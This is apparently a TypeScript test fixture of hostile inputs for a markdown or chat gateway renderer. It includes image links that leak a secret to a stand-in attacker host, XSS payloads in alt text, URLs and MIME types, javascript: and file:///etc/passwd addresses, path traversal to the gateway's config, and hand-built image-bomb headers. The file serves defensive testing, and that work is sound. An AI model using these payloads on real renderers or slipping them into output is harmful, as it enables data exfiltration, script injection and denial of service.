import { EVIL, type HostileCase, RUN, toTexts } from "./hostile-case.ts";

const PIXEL = `https://${EVIL}/pixel.png?leak=secret`;

const REMOTE = toTexts({
  plain: `![a chart](${PIXEL})`,
  "without a name": `![](${PIXEL})`,
  "with a title": `![x](${PIXEL} "t") ![y](<${PIXEL}> 't')`,
  "not encrypted": `![x](http://${EVIL}/a.png)`,
  "in capitals": `![x](HTTPS://${EVIL.toUpperCase()}/A.PNG)`,
  "a name with markup": `![<img src=x onerror=${RUN}>](${PIXEL}) ![**b** [l](javascript:${RUN})](${PIXEL})`,
  "a name that ends the attribute": `![" onerror="${RUN}](${PIXEL})`,
  "an address that ends the attribute": `![x](https://${EVIL}/a.png"onerror="${RUN}) ![y](https://${EVIL}/a.png'onload='${RUN})`,
  "the page's own host": "![x](/icon.svg) ![y](./config.json) ![z](icon.svg) ![w](?x)",
  "one of the gateway's": "![x](/media/../../config?token=x) ![y](http://127.0.0.1:18789/health)",
  "an entity in the address": `![x](https://${EVIL}/a&period;png?a&amp;b)`,
  "a script for an address": `![x](javascript:${RUN}) ![y](vbscript:x) ![z](file:///etc/passwd)`,
  "sizes of another dialect": `![x](${PIXEL} =100x100) ![x|300](${PIXEL}) ![[${PIXEL}]]`,
});

const BY_REFERENCE = toTexts({
  full: `![x][1]\n\n[1]: ${PIXEL}`,
  collapsed: `![x][]\n\n[x]: ${PIXEL} "t"`,
  shortcut: `![x]\n\n[x]: <${PIXEL}>`,
  "defined before": `[1]: ${PIXEL}\n\n![x][1]`,
  "defined in a quote": `> [1]: ${PIXEL}\n\n![x][1]`,
  "defined in a list": `- [1]: ${PIXEL}\n\n![x][1]`,
  "defined twice": `[1]: https://example.com/a.png\n[1]: ${PIXEL}\n\n![x][1]`,
  "a name in another case": `![x][FOO]\n\n[foo]: ${PIXEL}`,
  "a name with a fold": `![x][\u1e9e]\n\n[SS]: ${PIXEL}`,
  "across lines": `![x][a\nb]\n\n[a b]:\n${PIXEL}\n"t"`,
  "a link of that kind": `[x][1]\n\n[1]: ${PIXEL}`,
  "as a footnote": `![x][^1]\n\n[^1]: ${PIXEL}`,
  "a definition nobody names": `[1]: ${PIXEL}`,
});

const NESTED = toTexts({
  "in a link": `[![x](${PIXEL})](https://example.com)`,
  "in a link by reference": `[![x][1]][2]\n\n[1]: ${PIXEL}\n[2]: https://example.com`,
  "in a table": `| ![a](${PIXEL}) |\n|---|\n| ![b](${PIXEL}) |`,
  "in a footnote": `text[^1]\n\n[^1]: ![x](${PIXEL})`,
  "in a heading": `# ![x](${PIXEL})\n\n![y](${PIXEL})\n===`,
  "in a list": `- ![x](${PIXEL})\n  1. ![y](${PIXEL})\n     - [ ] ![z](${PIXEL})`,
  "in a quote": `> ![x](${PIXEL})\n>> ![y](${PIXEL})`,
  "in marks": `**![x](${PIXEL})** *![y](${PIXEL})* ~~![z](${PIXEL})~~`,
  "in a picture's name": `![![x](${PIXEL})](${PIXEL})`,
  "in raw HTML": `<div>![x](${PIXEL})</div>\n\n<b>![y](${PIXEL})</b>`,
  "in a quoted table": `> | ![a](${PIXEL}) |\n> |---|\n> | ![b](${PIXEL}) |`,
  "in a formula": `$$\\includegraphics{${PIXEL}}$$ and $\\href{${PIXEL}}{x}$`,
});

const PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

function toBase64(bytes: readonly number[]): string {
  return btoa(String.fromCharCode(...bytes));
}

const four = (value: number): number[] => [24, 16, 8, 0].map((shift) => (value >>> shift) & 0xff);

/** A header that promises a picture of this many pixels; nothing that could be drawn follows. */
const BOMBS = {
  png: toBase64([
    ...[0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52],
    ...[...four(30_000), ...four(30_000), 8, 6, 0, 0, 0, 0, 0, 0, 0],
  ]),
  webp: toBase64([
    ...[0x52, 0x49, 0x46, 0x46, 0x40, 0, 0, 0, 0x57, 0x45, 0x42, 0x50, 0x56, 0x50, 0x38, 0x58],
    ...[10, 0, 0, 0, 0, 0, 0, 0, 0xfe, 0x3f, 0, 0xfe, 0x3f, 0, 0, 0, 0, 0, 0, 0],
  ]),
  avif: toBase64([
    ...[0, 0, 0, 28, 0x66, 0x74, 0x79, 0x70, 0x61, 0x76, 0x69, 0x66, 0, 0, 0, 0, 0x61, 0x76, 0x69, 0x66],
    ...[
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      0,
      20,
      0x69,
      0x73,
      0x70,
      0x65,
      0,
      0,
      0,
      0,
      ...four(65_000),
      ...four(65_000),
    ],
    ...[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
  ]),
  jpeg: toBase64([
    ...[0xff, 0xd8, 0xff, 0xff, 0xff, 0xc0, 0, 11, 8, 0xff, 0xdc, 0xff, 0xdc, 1, 1, 0x11, 0],
    ...[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
  ]),
} as const;

/** Pictures by address, for every place that takes one. */
export const HOSTILE_PICTURES: Readonly<Record<string, string>> = {
  "a drawing": `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  "a drawing in base64": `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`)}`,
  "a drawing that says it is a picture": `data:image/png;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}`,
  "a page that says it is a picture": `data:image/jpeg;base64,${btoa(`<script>${RUN}</script>`)}`,
  "a page": `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  "a picture with a kind behind it": `data:image/png;charset=x;base64,${PNG}`,
  "a kind that ends the attribute": `data:image/png"onerror="${RUN};base64,${PNG}`,
  "a kind with brackets": `data:image/<svg/onload=${RUN}>;base64,${PNG}`,
  "no kind": `data:;base64,${PNG}`,
  "no base64": "data:image/png;base64,%%%",
  nothing: "data:",
  "a bomb of one kind": `data:image/png;base64,${BOMBS.png}`,
  "a bomb of another kind": `data:image/webp;base64,${BOMBS.webp}`,
  "a bomb of a newer kind": `data:image/avif;base64,${BOMBS.avif}`,
  "a bomb behind filling": `data:image/jpeg;base64,${BOMBS.jpeg}`,
  "from elsewhere": PIXEL,
  "from elsewhere without scheme": `//${EVIL}/a.png`,
  "a script": `javascript:${RUN}`,
};

const DATA_PICTURES = toTexts({
  ...Object.fromEntries(
    Object.entries(HOSTILE_PICTURES).map(([name, url]) => [name, `![${name}](<${url}>)`]),
  ),
  "all in one line": Object.values(HOSTILE_PICTURES)
    .slice(0, 6)
    .map((url) => `![](<${url}>)`)
    .join(" "),
});

/** Kinds of files that no gateway should name. */
export const HOSTILE_MIME_TYPES: readonly string[] = [
  `image/png" onerror="${RUN}`,
  `image/png'><script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  "image/svg+xml",
  "text/html",
  "application/xhtml+xml",
  "image/png;charset=utf-7",
  "image/png\u0000text/html",
  "image/png, text/html",
  "IMAGE/SVG+XML",
  "multipart/x-mixed-replace",
  "x".repeat(2000),
  "\u202eimage/png",
  "",
];

const MIME_TEXTS = toTexts({
  ...Object.fromEntries(
    HOSTILE_MIME_TYPES.filter((type) => type.length < 100).map((type, index) => [
      `kind ${index + 1}`,
      `![x](<data:${type};base64,${PNG}>) [y](<data:${type};base64,${PNG}>)`,
    ]),
  ),
});

export const PICTURE_CASES: readonly HostileCase[] = [
  { number: 31, rule: "a picture from elsewhere is named and not fetched", texts: REMOTE },
  { number: 32, rule: "nor is one by reference", texts: BY_REFERENCE },
  { number: 33, rule: "nor one inside of something else", texts: NESTED },
  {
    number: 35,
    rule: "a picture as data is drawn by its bytes alone, and never a large one",
    texts: DATA_PICTURES,
  },
  { number: 36, rule: "a kind of file never becomes markup", texts: MIME_TEXTS },
];
